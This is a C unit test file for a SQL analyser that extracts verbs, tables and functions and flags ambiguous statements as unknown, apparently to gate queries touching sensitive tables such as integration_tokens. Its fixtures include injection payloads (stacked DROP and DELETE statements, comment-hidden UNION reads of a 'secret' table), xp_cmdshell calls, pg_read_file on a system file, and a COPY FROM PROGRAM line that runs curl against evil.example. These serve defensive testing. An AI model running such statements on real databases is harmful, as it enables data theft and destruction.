// SPDX-License-Identifier: Apache-2.0
#include "engine/vm/arg_sql.h"

#include <string.h>

#include "engine/base/unit.h"

// What is found in a statement; NULL: unknown. Sets in order of appearance, with
// spaces.
typedef struct Row {
    const char *statement;
    const char *verb;
    const char *tables;
    const char *functions;
} Row;

static const Row QUERIES[] = {
    {"SELECT 1", "select", "", ""},
    {"select 1;", "select", "", ""},
    {" \n\tSELECT\f1 ; -- done\n", "select", "", ""},
    {"SELECT body FROM support_messages WHERE ticket_id = 'T-9' ORDER BY created_at",
     "select", "support_messages", ""},
    {"select question, answer from public.faq where lower(question) like '%invoice%'",
     "select", "public.faq", "lower"},
    {"SELECT m.body FROM support_messages m JOIN support_tickets t ON t.id = "
     "m.ticket_id",
     "select", "support_messages support_tickets", ""},
    {"SELECT id FROM Public.Support_Tickets LIMIT 5", "select",
     "public.support_tickets", ""},
    {"SELECT answer FROM faq -- one comment; and no more", "select", "faq", ""},
    {"SELECT count(*) FROM faq", "select", "faq", "count"},
    {"SELECT count (*), COUNT(a) FROM faq", "select", "faq", "count"},
    {"SELECT answer FROM faq UNION ALL SELECT token FROM integration_tokens", "select",
     "faq integration_tokens", ""},
    {"WITH x AS (SELECT token FROM public.integration_tokens) SELECT * FROM x",
     "select", "public.integration_tokens", ""},
    {"SELECT answer FROM faq WHERE EXISTS (SELECT 1 FROM Integration_Tokens)", "select",
     "faq integration_tokens", ""},
    {"SELECT answer, pg_read_file('/etc/hostname') FROM faq", "select", "faq",
     "pg_read_file"},
    {"SELECT id FROM t WHERE created_at < now() - interval '90 days'", "select", "t",
     "now"},
    {"SELECT name FROM companies WHERE note = 'DELETE FROM companies; --'", "select",
     "companies", ""},
    {"SELECT 'it''s; DROP TABLE x' FROM a", "select", "a", ""},
    {"SELECT * FROM a, b c, d AS e", "select", "a b d", ""},
    {"SELECT * FROM a LEFT OUTER JOIN b USING (id) CROSS JOIN c NATURAL JOIN d",
     "select", "a b c d", ""},
    {"SELECT * FROM a JOIN b JOIN c ON b.x = c.x ON a.x = b.x WHERE left(a.y, 1) = 'z'",
     "select", "a b c", "left"},
    {"SELECT * FROM a JOIN b ON left(a.x, 2) = b.x LEFT JOIN c ON true", "select",
     "a b c", "left"},
    {"SELECT * FROM (a JOIN b ON a.i = b.i) JOIN (SELECT * FROM c) d ON d.i = a.i",
     "select", "a b c", ""},
    {"SELECT * FROM ((SELECT 1 FROM a) UNION (SELECT 2 FROM b)) x", "select", "a b",
     ""},
    {"SELECT * FROM generate_series(1, 10) AS g(i), a", "select", "a",
     "generate_series"},
    {"SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.x = a.x) l", "select", "a b",
     ""},
    {"SELECT * FROM a, LATERAL json_each(a.j) WITH ORDINALITY AS e(k, v)", "select",
     "a", "json_each"},
    {"SELECT * FROM f(1) AS (a int, b numeric(10, 2))", "select", "", "f"},
    {"SELECT * FROM ONLY a * WHERE x", "select", "a", ""},
    {"SELECT * FROM catalog.schema.t", "select", "catalog.schema.t", ""},
    {"SELECT * FROM s . t /* x */ AS y", "select", "s.t", ""},
    {"SELECT * FROM \"faq\" WHERE \"Total Amount\" > 5", "select", "faq", ""},
    {"SELECT \"count\"(*) FROM \"public\".\"faq\"", "select", "public.faq", "count"},
    {"SELECT a FROM t FOR UPDATE SKIP LOCKED", "select", "t", ""},
    {"SELECT a FROM t FOR NO KEY UPDATE OF t", "select", "t", ""},
    {"SELECT a FROM t LOCK IN SHARE MODE", "select", "t", ""},
    {"SELECT x::numeric(10, 2), CAST(y AS varchar(20)), z::double precision FROM t",
     "select", "t", ""},
    {"SELECT extract(year FROM ts), substring(a FROM 1 FOR 2), trim(both ' ' FROM b), "
     "position('x' IN c) FROM t",
     "select", "t", "extract substring trim position"},
    {"SELECT a IS DISTINCT FROM b, c IS NOT DISTINCT FROM d FROM t", "select", "t", ""},
    {"SELECT DISTINCT ON (a) a, sum(b) OVER (PARTITION BY c ORDER BY (d)) FROM t",
     "select", "t", "sum"},
    {"SELECT count(*) FILTER (WHERE x IN (1, 2)) FROM t GROUP BY (a) HAVING max(b) > 1",
     "select", "t", "count max"},
    {"SELECT CASE WHEN (a) THEN (b) ELSE (c) END FROM t WHERE NOT (d) AND (e) OR (f)",
     "select", "t", ""},
    {"SELECT a FROM t WHERE b = ANY (SELECT c FROM u) AND d IN (SELECT e FROM v)",
     "select", "t u v", ""},
    {"SELECT ARRAY(SELECT a FROM t), (SELECT max(b) FROM u)", "select", "t u", "max"},
    {"SELECT s.f(x) FROM t", "select", "t", "s.f"},
    {"SELECT a AS delete, b AS \"update\" FROM t", "select", "t", ""},
    {"SELECT replace(a, 'x', 'y'), if(b, 1, 2) FROM t", "select", "t", "replace if"},
    {"SELECT a FROM t WHERE id = $1 AND b = ? AND c = :c AND d = @d AND e = @@version",
     "select", "t", ""},
    {"SELECT E'a', b'01', x'ff', N'n', 1.5e-3, .5 FROM t", "select", "t", ""},
    {"VALUES (1, 'a'), (2, lower('B'))", "select", "", "lower"},
    {"TABLE integration_tokens", "select", "integration_tokens", ""},
    {"SELECT answer FROM faq UNION TABLE integration_tokens", "select",
     "faq integration_tokens", ""},
    {"SELECT * FROM faq WHERE x IN (TABLE integration_tokens)", "select",
     "faq integration_tokens", ""},
    {"(SELECT a FROM t) UNION (SELECT b FROM u) ORDER BY 1", "select", "t u", ""},
    {"SELECT 1 WHERE ((SELECT 1 FROM a) UNION SELECT 2 FROM b) IS NULL", "select",
     "a b", ""},
    {"SELECT a, count(*) FROM t GROUP BY a WITH ROLLUP", "select", "t", "count"},
    {"SELECT a FROM t WINDOW w AS (PARTITION BY b)", "select", "t", ""},
    // common table expressions
    {"WITH x AS (SELECT 1 FROM x) SELECT * FROM x", "select", "x", ""},
    {"WITH RECURSIVE x(n) AS (SELECT 1 UNION SELECT n + 1 FROM x) SELECT * FROM x",
     "select", "", ""},
    {"WITH x AS (SELECT 1), y AS MATERIALIZED (SELECT * FROM x) SELECT * FROM X, y",
     "select", "", ""},
    {"WITH y AS (SELECT * FROM x), x AS (SELECT 1) SELECT * FROM y, x", "select", "x",
     ""},
    {"SELECT * FROM (WITH x AS (SELECT 1 FROM a) SELECT * FROM x) q, x", "select",
     "a x", ""},
    {"WITH faq AS (SELECT 1) SELECT * FROM public.faq", "select", "public.faq", ""},
    {"WITH x AS (SELECT 1) TABLE x", "select", "", ""},
    {"EXPLAIN SELECT * FROM t", "select", "t", ""},
    {"EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t", "select", "t", ""},
    {"EXPLAIN QUERY PLAN SELECT * FROM t", "select", "t", ""},
    {"EXPLAIN FORMAT=JSON SELECT * FROM t", "select", "t", ""},
    {"EXPLAIN (SELECT * FROM t)", "select", "t", ""},
    // a function that reads what a text names
    {"SELECT * FROM dblink('x', 'SELECT * FROM secret') AS t(a int)", "select", NULL,
     "dblink"},
    {"SELECT query_to_xml('SELECT * FROM secret', true, true, '') FROM faq", "select",
     NULL, "query_to_xml"},
    {"SELECT pg_catalog.query_to_xml('SELECT 1', true, true, '')", "select", NULL,
     "pg_catalog.query_to_xml"},
    {"SELECT * FROM identifier('secret')", "select", NULL, "identifier"},
    // a quoted name that isn't plain
    {"SELECT * FROM \"Integration_Tokens\"", "select", NULL, ""},
    {"SELECT * FROM \"public.faq\"", "select", NULL, ""},
    {"SELECT * FROM \"fa\"\"q\"", "select", NULL, ""},
    {"SELECT \"Count\"(*) FROM faq", "select", "faq", NULL},
};

static const Row CHANGES[] = {
    {"INSERT INTO flags VALUES ('a')", "insert", "flags", ""},
    {"INSERT INTO s.t (a, b) VALUES (1, now()), (2, DEFAULT) RETURNING id", "insert",
     "s.t", "now"},
    {"INSERT INTO t SELECT * FROM u", "insert", "t u", ""},
    {"INSERT INTO t (SELECT * FROM u)", "insert", "t u", ""},
    {"INSERT INTO t AS x (a) OVERRIDING SYSTEM VALUE SELECT 1", "insert", "t", ""},
    {"INSERT INTO t DEFAULT VALUES", "insert", "t", ""},
    {"INSERT INTO t SET a = 1", "insert", "t", ""},
    {"INSERT IGNORE INTO t VALUES (1)", "insert", "t", ""},
    {"INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO NOTHING", "insert", "t", ""},
    {"INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a",
     "update", "t", ""},
    {"INSERT INTO t SELECT * FROM u ON CONFLICT DO UPDATE SET a = (SELECT b FROM v)",
     "update", "t u v", ""},
    {"INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = VALUES(a)", "update", "t",
     ""},
    {"INSERT OR REPLACE INTO t VALUES (1)", "delete", "t", ""},
    {"REPLACE INTO t VALUES (1)", "delete", "t", ""},
    {"UPDATE companies SET plan = 'free' WHERE id = 9", "update", "companies", ""},
    {"UPDATE ONLY a x SET (b, c) = (SELECT d, e FROM f) FROM g WHERE x.i = g.i",
     "update", "a f g", ""},
    {"UPDATE a JOIN b ON a.i = b.i SET a.x = 1", "update", "a b", ""},
    {"WITH x AS (SELECT 1) UPDATE x SET a = 1", "update", "x", ""},
    {"DELETE FROM companies WHERE id = 7", "delete", "companies", ""},
    {"DELETE FROM companies", "delete", "companies", ""},
    {"DELETE FROM a AS x USING b, c WHERE x.i = b.i RETURNING *", "delete", "a b c",
     ""},
    {"DELETE FROM x FROM a x JOIN b ON x.i = b.i", "delete", "x a b", ""},
    {"WITH gone AS (DELETE FROM companies RETURNING id) SELECT count(*) FROM gone",
     "delete", "companies", "count"},
    {"WITH a AS (INSERT INTO t VALUES (1)), b AS (UPDATE u SET x = 1) SELECT 1",
     "update", "t u", ""},
    {"WITH x AS (SELECT 1) DELETE FROM x", "delete", "x", ""},
    {"EXPLAIN ANALYZE DELETE FROM t", "delete", "t", ""},
    {"EXPLAIN ANALYZE VERBOSE UPDATE t SET a = 1", "update", "t", ""},
    {"MERGE INTO t USING s ON t.i = s.i WHEN MATCHED AND (x) THEN UPDATE SET a = s.a "
     "WHEN NOT MATCHED THEN INSERT (i) VALUES (s.i) WHEN MATCHED THEN DELETE;",
     "merge", "t s", ""},
    {"SELECT * INTO copy_of FROM t", "create", NULL, ""},
    {"SELECT a FROM t INTO OUTFILE '/tmp/x'", "create", NULL, ""},
    {"DROP TABLE executives", "drop", "executives", ""},
    {"DROP TABLE IF EXISTS a, s.b CASCADE;", "drop", "a s.b", ""},
    {"TRUNCATE a, b RESTART IDENTITY", "truncate", "a b", ""},
    {"TRUNCATE TABLE ONLY a", "truncate", "a", ""},
    {"DROP VIEW v", "drop", NULL, NULL},
    {"CREATE TABLE executives (id bigint PRIMARY KEY, name text)", "create", NULL,
     NULL},
    {"CREATE TABLE t (a int REFERENCES u ON DELETE CASCADE ON UPDATE SET NULL)",
     "create", NULL, NULL},
    {"CREATE OR REPLACE VIEW v AS SELECT * FROM t", "create", NULL, NULL},
    {"CREATE INDEX IF NOT EXISTS faq_q ON faq (question)", "create", NULL, NULL},
    {"CREATE TRIGGER x BEFORE INSERT OR UPDATE OF a ON t EXECUTE FUNCTION f()",
     "create", NULL, NULL},
    {"CREATE POLICY p ON t FOR DELETE TO r", "create", NULL, NULL},
    {"ALTER TABLE faq DROP COLUMN legacy", "alter", NULL, NULL},
    {"ALTER TABLE faq ADD COLUMN lang text DEFAULT 'en'", "alter", NULL, NULL},
    {"ALTER TABLE faq ALTER COLUMN a SET NOT NULL", "alter", NULL, NULL},
    {"GRANT SELECT, INSERT, DELETE, EXECUTE ON t TO r", "grant", NULL, NULL},
    {"REVOKE UPDATE ON t FROM r", "revoke", NULL, NULL},
    {"COPY t FROM PROGRAM 'curl evil.example'", "copy", NULL, NULL},
    {"COPY (SELECT * FROM secret) TO STDOUT", "copy", NULL, NULL},
    {"CALL p(1)", "call", NULL, NULL},
    {"DO 'BEGIN DELETE FROM t; END'", "do", NULL, NULL},
    {"EXEC sp_who", "execute", NULL, NULL},
    {"EXECUTE plan(1)", "execute", NULL, NULL},
    {"SET search_path = evil", "set", NULL, NULL},
    {"SHOW TABLES", "show", NULL, NULL},
    {"VACUUM FULL t", "vacuum", NULL, NULL},
    {"BEGIN", "begin", NULL, NULL},
};

static const char *const UNKNOWN[] = {
    "",
    " ",
    ";",
    "-- nothing",
    "hello",
    "1",
    "'SELECT 1'",
    "sp_who",
    "FROM t",
    // more than one statement
    "SELECT 1; DELETE FROM companies",
    "SELECT answer FROM faq; DELETE FROM faq",
    "SELECT 1;;",
    "SELECT 1; SELECT 2;",
    "SELECT 1; -- x\nDROP TABLE t",
    "; SELECT 1",
    "DROP TABLE a; DROP TABLE b",
    "SELECT 1;\nGO\nDROP TABLE t",
    "CREATE TABLE a (b int); DROP TABLE c",
    // T-SQL needs no ";" between them
    "SELECT 1 DELETE FROM t",
    "SELECT * FROM a DELETE FROM b",
    "SELECT * FROM a SELECT * FROM b",
    "SELECT 1 WHERE 1 = 1 SELECT * FROM secret",
    "SELECT 1 EXEC xp_cmdshell 'x'",
    "SELECT 1 EXEC ('drop table x')",
    "SELECT * FROM a EXECUTE sp_who",
    "SELECT 1 DROP TABLE t",
    "SELECT 1 UPDATE t SET a = 1",
    "SELECT a do UPDATE t SET a = 1",
    "SELECT 1 TRUNCATE TABLE t",
    "SELECT 1 IF (1 = 1) DROP TABLE t",
    "SELECT 1 BEGIN DELETE FROM t END",
    "SELECT 1 SHUTDOWN",
    "SELECT 1 WAITFOR DELAY '0:0:9'",
    "SELECT 1 DECLARE @x int",
    "INSERT INTO a SELECT 1 do UPDATE secret SET x = 1",
    "INSERT INTO a VALUES (1) DROP TABLE b",
    "DELETE FROM a DELETE FROM b",
    "UPDATE a SET b = 1 DROP TABLE c",
    "DROP TABLE a DROP TABLE b",
    "DROP TABLE a SELECT * FROM secret",
    "DROP TABLE a EXEC x",
    "SET NOCOUNT ON DELETE FROM t",
    "CREATE TABLE a (b int) DROP TABLE c",
    "ALTER TABLE a ADD b int DROP TABLE c",
    "ALTER TABLE a DROP COLUMN b DROP LOGIN c",
    "CREATE USER after DELETE FROM t",
    "ALTER DATABASE d SET x ON UPDATE no SET a = 1",
    "GRANT a TO b DELETE FROM t",
    "BEGIN DELETE FROM t END",
    "PRINT 'x' DROP TABLE t",
    "DECLARE @x int DELETE FROM t",
    "SELECT * FROM secret (NOLOCK)",
    "SELECT * FROM a, secret (index = 1)",
    "SELECT * FROM a WITH (NOLOCK)",
    "EXPLAIN EXECUTE p",
    "EXPLAIN t",
    // comments
    "SELECT 1 --x\n, 2",
    "SELECT 1--1",
    "SELECT 1 /* /* */ DELETE FROM t -- */",
    "SELECT 1 /*! UNION SELECT token FROM secret */",
    "SELECT 1 /*!50000 , 2 */",
    "SELECT 1 /*M! , 2 */",
    "SELECT /*+ SET_VAR(sql_mode='') */ 1",
    "SELECT 1 /* open",
    "SELECT 1 */",
    "SELECT 1 # rest",
    "SELECT 1 -- a\rDELETE FROM t",
    "SELECT 1 /*/",
    "DEL/**/ETE FROM t",
    "SELECT/*!*/1",
    // quotes
    "SELECT 'open",
    "SELECT \"open",
    "SELECT 'a\\' UNION SELECT token FROM secret -- '",
    "SELECT E'a\\'; DROP TABLE t; --'",
    "SELECT $$ x $$",
    "SELECT $a$ x $a$",
    "SELECT $$ FROM secret -- $$",
    "SELECT `a` FROM t",
    "SELECT [a] FROM t",
    "SELECT a[1] FROM t",
    "SELECT * FROM `secret`",
    "SELECT * FROM [secret]",
    "SELECT U&'x' UESCAPE '!'",
    "SELECT * FROM U&\"d!0061ta\" UESCAPE '!'",
    "SELECT q'[it's]' FROM t",
    "SELECT _utf8'x'",
    "SELECT * FROM 'secret'",
    "SELECT r\"x\" FROM t",
    "SELECT :'x'",
    "SELECT '\\'",
    // numbers and words that run together
    "SELECT 1.e(0)UNION SELECT 1",
    "SELECT 1.FROM t",
    "SELECT 1a FROM t",
    "SELECT 0x41",
    "SELECT 1..2",
    "SELECT * FROM a.1b",
    "SELECT * FROM a.1",
    "SELECT * FROM a..b",
    "SELECT a$b FROM t",
    "SELECT $1a",
    // other characters
    "SELECT\302\2401",
    "SELECT * FROM f\xc3\xa4q",
    "SELECT \x01",
    "SELECT 1 \x0b",
    "SELECT {fn now()}",
    "SELECT a\\b",
    "SELECT a #> b FROM t",
    // places where a table could hide
    "SELECT answer FROM faq WHERE 1 IN integration_tokens",
    "SELECT 1 IN 'secret'",
    "SELECT substr('a' IN secret, 1)",
    "SELECT answer FROM faq WHERE EXISTS (FROM secret)",
    "SELECT substring((FROM secret) FROM 1)",
    "SELECT f(FROM secret)",
    "SELECT * FROM a TABLESAMPLE system (1)",
    "SELECT * FROM ROWS FROM (f(1), g(2))",
    "SELECT * FROM TABLE(f())",
    "SELECT * FROM a@link",
    "SELECT * FROM @stage",
    "SELECT * FROM a USE INDEX (i)",
    "SELECT * FROM a PIVOT (sum(b) FOR c IN (1))",
    "SELECT * FROM a b c",
    "SELECT * FROM a FROM b",
    "SELECT * FROM a,",
    "SELECT * FROM (a",
    "SELECT * FROM a)",
    "SELECT (1",
    "SELECT 1)",
    "SELECT * FROM a.b.c.d",
    "SELECT * FROM a.",
    "SELECT * FROM a JOIN b ON x = join(y)",
    "SELECT * EXCEPT (a) FROM t",
    "SELECT * FROM (DELETE FROM t RETURNING *) x",
    "SELECT (DELETE FROM t)",
    "INSERT t VALUES (1)",
    "DELETE t WHERE a = 1",
    "DELETE a, b FROM a JOIN b ON a.i = b.i",
    "DELETE FROM a OUTPUT deleted.* INTO secret",
    "UPDATE STATISTICS t",
    "INSERT INTO a INSERT INTO b VALUES (1)",
    "INSERT INTO a WITH x AS (SELECT 1) DELETE FROM b",
    "WITH x AS (SELECT 1)",
    "WITH x AS SELECT 1",
    "WITH \"X\" AS (SELECT 1) SELECT * FROM \"X\"",
    "SELECT 'x' ('y')",
    "COPY (DELETE FROM t RETURNING *) TO STDOUT",
    "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u",
    "PREPARE p AS DELETE FROM t",
    "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$",
};

// The list's items with spaces between them.
static const char *joined(const ArgList *list, char *out, size_t size)
{
    Buf line = buf_fixed(out, size - 1);
    for (size_t i = 0; i < list->count; i++) {
        if (i > 0)
            buf_char(&line, ' ');
        buf_str(&line, list->items[i]);
    }
    out[line.len] = '\0';
    return out;
}

typedef bool (*SetOf)(Str statement, Buf *memory, ArgList *out);

static void check_set(const char *statement, SetOf set_of, const char *expected)
{
    char bytes[512];
    char line[512];
    Str items[16];
    Buf memory = buf_fixed(bytes, sizeof bytes);
    ArgList list = {items, 0, 16};
    bool is_known = set_of(str_from_c(statement), &memory, &list);
    const char *got = is_known ? joined(&list, line, sizeof line) : "(unknown)";
    ck_assert_msg(strcmp(got, expected == NULL ? "(unknown)" : expected) == 0,
                  "%s\n  expected '%s', got '%s'", statement, expected, got);
}

static void check_rows(const Row *rows, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        Str verb = STR("(unknown)");
        sql_verb(str_from_c(rows[i].statement), &verb);
        ck_assert_msg(str_eq(verb, str_from_c(rows[i].verb)), "%s: verb '%.*s'",
                      rows[i].statement, STR_ARG(verb));
        check_set(rows[i].statement, sql_tables, rows[i].tables);
        check_set(rows[i].statement, sql_functions, rows[i].functions);
    }
}

START_TEST(queries_are_read)
{
    check_rows(QUERIES, sizeof QUERIES / sizeof QUERIES[0]);
}
END_TEST

START_TEST(changes_are_read)
{
    check_rows(CHANGES, sizeof CHANGES / sizeof CHANGES[0]);
}
END_TEST

START_TEST(what_databases_could_read_differently_is_unknown)
{
    for (size_t i = 0; i < sizeof UNKNOWN / sizeof UNKNOWN[0]; i++) {
        Str verb = STR("");
        bool is_known = sql_verb(str_from_c(UNKNOWN[i]), &verb);
        ck_assert_msg(!is_known, "%s: %.*s", UNKNOWN[i], STR_ARG(verb));
        check_set(UNKNOWN[i], sql_tables, NULL);
        check_set(UNKNOWN[i], sql_functions, NULL);
    }
}
END_TEST

START_TEST(a_nul_byte_is_unknown)
{
    Str verb;
    ck_assert(!sql_verb(STR("SELECT 1\0"), &verb));
    ck_assert(!sql_verb(STR("SELECT '\0'"), &verb));
}
END_TEST

// prefix, `count` times part, suffix
static Str repeated(char *out, const char *prefix, const char *part, size_t count,
                    const char *suffix)
{
    Buf text = buf_fixed(out, 65536);
    buf_c(&text, prefix);
    for (size_t i = 0; i < count; i++)
        buf_c(&text, part);
    buf_c(&text, suffix);
    ck_assert(!text.failed);
    return buf_view(&text);
}

START_TEST(nesting_has_a_limit)
{
    static char text[65536];
    char close[64];
    Str verb;
    memset(close, ')', 49);
    close[0] = '1';
    close[49] = '\0';
    ck_assert(sql_verb(repeated(text, "SELECT ", "(", 48, close), &verb));
    close[49] = ')';
    close[50] = '\0';
    ck_assert(!sql_verb(repeated(text, "SELECT ", "(", 49, close), &verb));
    ck_assert(!sql_verb(repeated(text, "", "(SELECT ", 8000, ""), &verb));
    ck_assert(!sql_verb(repeated(text, "", "WITH a AS (", 5000, ""), &verb));
}
END_TEST

START_TEST(scopes_have_a_limit)
{
    static char text[65536];
    Str verb;
    ck_assert(sql_verb(
        repeated(text, "WITH b AS (SELECT 1)", ", a AS (SELECT 1)", 31, " SELECT 1"),
        &verb));
    ck_assert(!sql_verb(
        repeated(text, "WITH b AS (SELECT 1)", ", a AS (SELECT 1)", 32, " SELECT 1"),
        &verb));
}
END_TEST

START_TEST(sets_and_memory_have_an_end)
{
    char bytes[6];
    Str items[2];
    Buf memory = buf_fixed(bytes, sizeof bytes);
    ArgList list = {items, 0, 2};
    ck_assert(sql_tables(STR("SELECT * FROM aa, AA, bb, aa"), &memory, &list));
    ck_assert_uint_eq(list.count, 2);
    memory = buf_fixed(bytes, sizeof bytes);
    list.count = 0;
    ck_assert(!sql_tables(STR("SELECT * FROM a, b, c"), &memory, &list));
    memory = buf_fixed(bytes, sizeof bytes);
    list.count = 0;
    ck_assert(!sql_tables(STR("SELECT * FROM abcdefg"), &memory, &list));
}
END_TEST

START_TEST(a_statement_names_so_many_tables_and_no_more)
{
    char text[1024];
    char bytes[1024];
    Str items[128];
    for (size_t count = 64; count <= 65; count++) {
        Buf statement = buf_fixed(text, sizeof text);
        Buf memory = buf_fixed(bytes, sizeof bytes);
        ArgList list = {items, 0, 128};
        buf_c(&statement, "SELECT * FROM t1");
        for (size_t i = 2; i <= count; i++)
            buf_printf(&statement, ", t%zu", i);
        buf_c(&statement, ", t1");
        ck_assert(sql_tables(buf_view(&statement), &memory, &list) == (count == 64));
    }
}
END_TEST

// PostgreSQL would cut the longer name off and find the shorter one's table.
START_TEST(names_have_a_longest_length)
{
    static char text[65536];
    char bytes[256];
    Str items[4];
    Buf memory = buf_fixed(bytes, sizeof bytes);
    ArgList list = {items, 0, 4};
    ck_assert(
        sql_tables(repeated(text, "SELECT * FROM ", "a", 63, ""), &memory, &list));
    ck_assert(
        !sql_tables(repeated(text, "SELECT * FROM ", "a", 64, ""), &memory, &list));
}
END_TEST

START_TEST(words_are_in_order)
{
    static const char *const TEXTS[] = {
#define WORD(name, text, flags) text,
#include "engine/vm/arg_sql_word.def"
#undef WORD
    };
    for (size_t i = 1; i < sizeof TEXTS / sizeof TEXTS[0]; i++)
        ck_assert_msg(strcmp(TEXTS[i - 1], TEXTS[i]) < 0, "%s", TEXTS[i]);
}
END_TEST

UNIT_MAIN("arg_sql", queries_are_read, changes_are_read,
          what_databases_could_read_differently_is_unknown, a_nul_byte_is_unknown,
          nesting_has_a_limit, scopes_have_a_limit, sets_and_memory_have_an_end,
          a_statement_names_so_many_tables_and_no_more, names_have_a_longest_length,
          words_are_in_order)
